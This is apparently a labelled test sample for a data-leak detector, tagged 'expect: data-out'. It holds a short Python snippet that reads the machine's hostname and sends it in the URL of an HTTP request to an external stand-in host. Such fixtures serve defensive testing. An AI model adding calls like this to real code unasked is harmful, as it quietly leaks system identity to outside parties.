# expect: data-out
# source: issue 4
# technique: httpx.get whose f-string path includes platform.node()
import platform
import httpx

node = platform.node()
httpx.get(f"https://status.example.org/hb/{node}")
